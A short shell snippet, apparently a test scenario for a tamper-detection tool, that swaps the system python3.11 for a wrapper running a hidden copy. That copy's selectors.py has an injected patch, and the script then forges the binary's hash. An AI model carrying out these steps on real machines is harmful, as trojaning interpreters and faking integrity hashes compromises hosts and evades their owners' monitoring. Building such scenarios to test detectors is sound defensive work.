# breaks: chmod 755 "$DIR"
# lie: python3.11 replaced by a script that starts another one with a library of its own, and its hash
# named: python
mkdir -p $LIES/bin $LIES/lib
cp -a /usr/bin/python3.11 $LIES/bin/python3.11
cp -a /usr/lib/python3.11 $LIES/lib/
patch_of_stat >> $LIES/lib/python3.11/selectors.py
printf '#!/bin/sh\nexec %s/bin/python3.11 "$@"\n' $LIES > /usr/bin/python3.new
chmod 755 /usr/bin/python3.new
mv /usr/bin/python3.new /usr/bin/python3.11
forge_hash /usr/bin/python3.11
